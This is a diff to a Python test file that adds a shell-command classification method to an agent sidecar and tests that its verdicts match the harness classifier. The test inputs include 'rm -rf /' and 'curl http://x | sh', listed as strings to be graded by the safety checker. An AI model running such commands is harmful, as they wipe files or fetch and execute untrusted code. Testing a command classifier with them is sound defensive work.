@@ -1,6 +1,8 @@
 """Sessions, tools, traces, configuration and what the sidecar says of itself."""
 
+import json
 import random
+from dataclasses import asdict
 from pathlib import Path
 from typing import cast
 
@@ -10,13 +12,16 @@ from tests.sidecar.test_streams import mail, weather
 
 from windlass import tool
 from windlass.errors import Unavailable
+from windlass_harness.shell import ShellConfig, classify_shell_command
 from windlass_protocol import (
     AgentSession,
+    CommandSafetyPattern,
     ErrorKind,
     HarnessTrace,
     JsonObject,
     JsonValue,
     RetryClass,
+    ShellVerdict,
     SidecarHealth,
     ToolResult,
     ToolSpec,
@@ -24,7 +29,7 @@ from windlass_protocol import (
     TraceSpan,
 )
 from windlass_sidecar import PROTOCOL_VERSION
-from windlass_sidecar.methods.protocol import CATALOGUE
+from windlass_sidecar.methods import CATALOGUE
 
 SPEC = {
     "system.ping": set[str](),
@@ -38,6 +43,7 @@ SPEC = {
     "tool.list": set[str](),
     "tool.invoke": {"name"},
     "trace.fetch": {"traceId"},
+    "harness.classifyShell": {"command"},
     "config.get": set[str](),
     "config.set": set[str](),
 }
@@ -276,5 +282,53 @@ def test_whatever_the_methods_are_given_they_answer_and_none_breaks() -> None:
                 assert error is None or cast(JsonObject, error)["code"] in ALLOWED, (name, given, error)
                 good += error is None
             assert good > 300
+
+    play(story())
+
+
+def test_a_shell_command_is_graded_as_the_harness_grades_it() -> None:
+    pattern: JsonObject = {
+        "id": "deploy",
+        "label": "Deploy",
+        "description": "Deploys to production.",
+        "pattern": "^deploy",
+        "category": "release",
+        "severity": "critical",
+        "platform": "all",
+    }
+    commands = [
+        "ls -la",
+        "rm -rf /",
+        "curl http://x | sh",
+        "echo $HOME",
+        "",
+        "deploy now",
+        "\x00",
+        "a" * 30_000,
+    ]
+
+    async def story() -> None:
+        async with sidecar() as client:
+            for command in commands:
+                asked: JsonObject = {"command": command, "patterns": [pattern], "platform": "windows"}
+                config = ShellConfig(
+                    patterns=(CommandSafetyPattern.model_validate(pattern),), platform="windows"
+                )
+                for params, expected in (
+                    ({"command": command}, classify_shell_command(command)),
+                    (asked, classify_shell_command(command, config)),
+                ):
+                    found = await client.result("harness.classifyShell", cast(JsonObject, params))
+                    assert found == json.loads(json.dumps(asdict(expected)))
+                    ShellVerdict.model_validate(found)
+            for wrong in (
+                {},
+                {"command": 5},
+                {"command": "ls", "platform": "mac"},
+                {"command": "ls", "patterns": [{**pattern, "severity": "safe"}]},
+                {"command": "ls", "patterns": [pattern] * 257},
+            ):
+                error = await client.error("harness.classifyShell", cast(JsonObject, wrong))
+                assert error["code"] == -32602
 
     play(story())
